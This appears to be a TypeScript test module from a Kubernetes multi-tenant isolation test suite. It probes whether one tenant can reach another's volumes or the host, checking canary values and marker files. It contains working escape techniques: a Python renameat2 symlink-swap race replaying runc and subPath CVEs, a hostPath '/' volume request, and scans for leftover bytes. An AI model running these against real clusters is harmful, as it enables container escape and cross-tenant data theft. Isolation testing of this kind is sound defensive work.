import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { MiB, SECOND_MS, sleep, until } from '../../stdx/index.ts'
import { type AttackContext, blocked, escaped } from '../attack.ts'
import { MARKER_CONTENT, placeMarker } from '../marker.ts'
import type { Party } from '../party.ts'
import type { ApiAnswer } from '../tenant-api.ts'
import { counted, said } from './expect.ts'
import { family, type Sketch } from './own-and-other.ts'

/** Volumes that outlive pods: another tenant's, what one leaves behind, and the machine by way of one's own. */

const STARTED_MS = 45 * SECOND_MS
const RACES = 6
const SCAN_BYTES = 64 * MiB

const baseOf = ({ canaries }: Party) => `/api/v1/namespaces/${canaries.namespace}`

const claimOf = (name: string, spec: object = {}) => ({
  apiVersion: 'v1',
  kind: 'PersistentVolumeClaim',
  metadata: { name },
  spec: { accessModes: ['ReadWriteMany'], resources: { requests: { storage: '16Mi' } }, ...spec },
})

type Mount = { name: string; mountPath: string; subPath?: string }

function podOf(
  party: Party,
  name: string,
  script: string,
  { claim, mounts, volumes = [] }: { claim: string; mounts: readonly Mount[]; volumes?: readonly object[] },
): object {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name },
    spec: {
      restartPolicy: 'Never',
      terminationGracePeriodSeconds: 0,
      volumes: [{ name: 'data', persistentVolumeClaim: { claimName: claim } }, ...volumes],
      containers: [
        {
          name: 'main',
          image: party.image,
          command: ['sh', '-c', script],
          volumeMounts: mounts,
          resources: { limits: { cpu: '1', memory: '128Mi' }, requests: { cpu: '10m', memory: '16Mi' } },
        },
      ],
    },
  }
}

const DATA: readonly Mount[] = [{ name: 'data', mountPath: '/data' }]

/** Runs a pod with a claim to its end; its log, or why it did not begin. */
async function runWith(
  party: Party,
  name: string,
  script: string,
  volumes: Parameters<typeof podOf>[3],
  waitMs = STARTED_MS,
): Promise<{ ended: boolean; words: string }> {
  const path = `${baseOf(party)}/pods/${name}`
  const made = await party.own(`${baseOf(party)}/pods`, {
    method: 'POST',
    body: podOf(party, name, script, volumes),
  })
  if (made.code >= 400) return { ended: false, words: said(made) }
  type Seen = {
    status: {
      phase?: string
      containerStatuses?: { state: { waiting?: { reason?: string; message?: string } } }[]
      conditions?: { type: string; status: string; message?: string }[]
    }
  }
  let last: Seen = { status: {} }
  try {
    await until(
      async () => {
        last = await party.must<Seen>(path)
        return last.status.phase === 'Succeeded' || last.status.phase === 'Failed'
      },
      { timeoutMs: waitMs, everyMs: 200, what: `The end of ${name}` },
    )
    return { ended: true, words: (await party.own(`${path}/log`)).body }
  } catch {
    const { waiting } = last.status.containerStatuses?.[0]?.state ?? {}
    const condition = last.status.conditions?.find(({ status }) => status === 'False')
    return {
      ended: false,
      words: waiting?.message ?? waiting?.reason ?? condition?.message ?? last.status.phase ?? 'nothing',
    }
  } finally {
    await party.own(`${path}?gracePeriodSeconds=0`, { method: 'DELETE' })
    await until(async () => (await party.own(path)).code === 404, {
      timeoutMs: STARTED_MS,
      everyMs: 100,
      what: `${name} having gone`,
    })
  }
}

const treasures = new WeakMap<Party, Promise<{ claim: string; volume: string }>>()

/** A claim of the victim with its canary in a file; made once. */
function treasureOf(party: Party): Promise<{ claim: string; volume: string }> {
  const make = async () => {
    const claim = 'treasure'
    await party.create(`${baseOf(party)}/persistentvolumeclaims`, claimOf(claim))
    const { ended, words } = await runWith(
      party,
      'bury',
      `echo ${party.canaries.value} >/data/canary; sync; cat /data/canary`,
      { claim, mounts: DATA },
    )
    if (!ended || !words.includes(party.canaries.value)) throw new Error(`a claim of ${party.name}: ${words}`)
    const { spec } = await party.must<{ spec: { volumeName: string } }>(
      `${baseOf(party)}/persistentvolumeclaims/${claim}`,
    )
    return { claim, volume: spec.volumeName }
  }
  const known = treasures.get(party) ?? make()
  treasures.set(party, known)
  known.catch(() => treasures.delete(party))
  return known
}

async function ownClaim({ attacker, victim }: AttackContext): Promise<string> {
  await treasureOf(victim)
  const { claim } = await treasureOf(attacker)
  const { ended, words } = await runWith(attacker, 'unbury', 'cat /data/canary', { claim, mounts: DATA })
  if (!ended || !words.includes(attacker.canaries.value)) throw new Error(`its own volume: ${words}`)
  return 'what it has written to a volume of its own it reads in another pod'
}

/**
 * Swaps a directory of a volume with a link that leads out, as fast as it can, while containers are started on it. The
 * library call renames both at once, so that there is never a moment without either.
 */
const swapper = (target: string, name: string) => `
import ctypes, os, time
libc = ctypes.CDLL(None)
os.makedirs("/data/${name}")
open("/data/${name}/own", "w").close()
os.symlink(${JSON.stringify(target)}, "/data/${name}-link")
print("ready", flush=True)
end = time.time() + 600
number = 276 if os.uname().machine == "aarch64" else 316
while time.time() < end:
    libc.syscall(ctypes.c_long(number), -100, b"/data/${name}", -100, b"/data/${name}-link", 2)
`

/** `name` is the directory in the volume that is swapped. */
type Race = {
  mounts(name: string): readonly Mount[]
  volumes?: readonly object[]
  script(marker: string, name: string): string
}

function race(
  sketch: Omit<Sketch, 'attempt' | 'control' | 'needs'>,
  { mounts, volumes = [], script }: Race,
): Sketch {
  return {
    standards: ['T1611', 'MTB-PL1-BC-HI-1'],
    ...sketch,
    needs: ['pods', 'machine'],
    control: ownClaim,
    async attempt(context) {
      const { attacker, mark } = context
      const base = baseOf(attacker)
      const { claim } = await treasureOf(attacker)
      using place = placeMarker(context.machine.stateDir, mark)
      const name = `swaps-${mark}`
      try {
        await attacker.create(
          `${base}/pods`,
          podOf(attacker, name, `exec python3 -c '${swapper(place.directory, mark)}'`, {
            claim,
            mounts: DATA,
          }),
        )
        await until(async () => (await attacker.own(`${base}/pods/${name}/log`)).body.includes('ready'), {
          timeoutMs: STARTED_MS,
          everyMs: 200,
          what: 'The pod that swaps',
        })
        const words: string[] = []
        for (let i = 0; i < RACES; i++) {
          const ran = await runWith(
            attacker,
            `race-${i}-${mark}`,
            script(place.file, mark),
            { claim, mounts: mounts(mark), volumes },
            10 * SECOND_MS,
          )
          if (ran.words.includes(MARKER_CONTENT)) return escaped(ran.words.slice(0, 200))
          const changed = place.changed()
          if (changed) return changed
          words.push(ran.ended ? 'into the volume' : 'refused')
        }
        return blocked('mount view', `${RACES} starts while the link was swapped: ${counted(words)}`)
      } finally {
        await attacker.own(`${base}/pods/${name}?gracePeriodSeconds=0`, { method: 'DELETE' })
      }
    },
  }
}

export const claimAttacks = family('volumes', 'storage', [
  {
    id: 'claim-of-the-victim',
    title:
      "names the victim's volume: by claim, by volumeName, as a source to copy, and by volumes of its own making",
    replays: 'claims that were bound to whatever volume they named',
    standards: ['MTB-PL1-BC-HI-1', 'MS-TA9013'],
    needs: ['pods'],
    control: ownClaim,
    async attempt({ attacker, victim, mark }) {
      const { volume } = await treasureOf(victim)
      const base = baseOf(attacker)
      const specs: [string, object][] = [
        ['volumeName', { volumeName: volume }],
        ['dataSource', { dataSource: { kind: 'PersistentVolumeClaim', name: 'treasure' } }],
        [
          'dataSourceRef',
          {
            dataSourceRef: {
              kind: 'PersistentVolumeClaim',
              name: 'treasure',
              namespace: victim.canaries.namespace,
            },
          },
        ],
        ['storageClassName', { storageClassName: victim.name }],
        ['selector', { selector: { matchLabels: { canary: victim.canaries.value } } }],
        ['block', { volumeMode: 'Block' }],
      ]
      const words: string[] = []
      for (const [what, spec] of specs) {
        const claim = `${what.toLowerCase()}-${mark}`
        const answer = await attacker.own(`${base}/persistentvolumeclaims`, {
          method: 'POST',
          body: claimOf(claim, spec),
        })
        if (answer.code >= 500) return escaped(`${what}: ${said(answer)}`)
        if (answer.code >= 400) {
          words.push(`${what}: ${answer.code}`)
          continue
        }
        const ran = await runWith(
          attacker,
          `reads-${what.toLowerCase()}-${mark}`,
          'cat /data/canary',
          { claim, mounts: DATA },
          10 * SECOND_MS,
        )
        if (ran.words.includes(victim.canaries.value)) return escaped(`${what}: ${ran.words}`)
        words.push(`${what}: ${ran.words.trim().slice(0, 60)}`)
        await attacker.own(`${base}/persistentvolumeclaims/${claim}`, { method: 'DELETE' })
      }
      const handmade: ApiAnswer = await attacker.own('/api/v1/persistentvolumes', {
        method: 'POST',
        body: {
          apiVersion: 'v1',
          kind: 'PersistentVolume',
          metadata: { name: volume },
          spec: {
            capacity: { storage: '16Mi' },
            accessModes: ['ReadWriteMany'],
            hostPath: { path: '/' },
          },
        },
      })
      if (handmade.code < 400) return escaped(`a volume of the machine's root: ${said(handmade)}`)
      const seen = await attacker.own(`/api/v1/persistentvolumes/${volume}`)
      return seen.code === 404
        ? blocked(
            'volume files, admission (the API’s schema)',
            `${words.join('; ')}; a volume of its own making: ${handmade.code}`,
          )
        : escaped(`the victim's volume is in its API: ${said(seen)}`)
    },
  },
  race(
    {
      id: 'claim-subpath-race',
      title: 'swaps the directory of a subPath with a link to the machine while containers start on it',
      replays:
        'CVE-2021-25741 and CVE-2017-1002101: a subPath that became a link after it had been looked at; CVE-2017-1002102: and was deleted through it',
    },
    {
      mounts: (name) => [{ name: 'data', mountPath: '/sub', subPath: name }],
      script: () => 'cat /sub/marker 2>&1; touch /sub/written; ls /sub',
    },
  ),
  race(
    {
      id: 'claim-mount-race',
      title: 'swaps the place of a mount inside its volume with a link to the machine while containers start',
      replays:
        'CVE-2021-30465 and CVE-2024-45310: mounts of runc that went through a link that was swapped in time',
    },
    {
      mounts: (name) => [...DATA, { name: 'scratch', mountPath: `/data/${name}` }],
      volumes: [{ name: 'scratch', emptyDir: {} }],
      script: (marker, name) =>
        `cat ${marker} /data/${name}/marker 2>&1; touch /data/${name}/written; ls /data/${name}`,
    },
  ),
  {
    id: 'claim-bytes-left-behind',
    title: 'makes volumes where the victim’s was, and looks for its bytes in new files, holes and free space',
    replays: 'disks that were given on without having been wiped',
    standards: ['NIST-800-190-4.5.5'],
    needs: ['pods', 'machine'],
    control: ownClaim,
    async attempt({ attacker, victim, mark, machine }) {
      const base = baseOf(victim)
      const claim = `leaves-${mark}`
      await victim.create(`${base}/persistentvolumeclaims`, claimOf(claim))
      const left = await runWith(
        victim,
        `writes-${mark}`,
        `i=0; while [ $i -lt 500 ]; do echo ${victim.canaries.value} >>/data/many; i=$((i+1)); done; sync; echo written`,
        { claim, mounts: DATA },
      )
      if (!left.words.includes('written')) throw new Error(`the victim's volume: ${left.words}`)
      const found = scan(join(machine.stateDir, 'volumes', victim.name), victim.canaries.value)
      if (found !== undefined) return escaped(`the canary is in the clear in ${found}`)
      await victim.must(`${base}/persistentvolumeclaims/${claim}`, { method: 'DELETE' })
      await until(async () => (await victim.own(`${base}/persistentvolumeclaims/${claim}`)).code === 404, {
        timeoutMs: STARTED_MS,
        everyMs: 200,
        what: 'The end of the claim',
      })
      await sleep(SECOND_MS)
      const own = `finds-${mark}`
      await attacker.create(`${baseOf(attacker)}/persistentvolumeclaims`, claimOf(own))
      const ran = await runWith(
        attacker,
        own,
        'fallocate -l 8M /data/hole 2>/dev/null || truncate -s 8M /data/hole; tr -d "\\0" </data/hole | head -c 2000; ls -A /data; grep -r canary- /data | head -n 3; echo looked',
        { claim: own, mounts: DATA },
      )
      await attacker.own(`${baseOf(attacker)}/persistentvolumeclaims/${own}`, { method: 'DELETE' })
      if (!ran.ended || !ran.words.includes('looked')) throw new Error(`its own volume: ${ran.words}`)
      return ran.words.includes('canary-')
        ? escaped(ran.words.slice(0, 200))
        : blocked(
            'volume files, a key for every volume',
            `new files show: ${ran.words.trim().replaceAll(/\s+/g, ' ').slice(0, 120)}; the victim's file on the disk has none of its bytes`,
          )
    },
  },
])

/** The first file below a directory with these bytes in it. */
function scan(directory: string, bytes: string): string | undefined {
  if (!existsSync(directory)) return undefined
  for (const entry of readdirSync(directory, { withFileTypes: true, recursive: true })) {
    if (!entry.isFile()) continue
    const path = join(entry.parentPath, entry.name)
    if (readFileSync(path).subarray(0, SCAN_BYTES).includes(bytes)) return path
  }
  return undefined
}
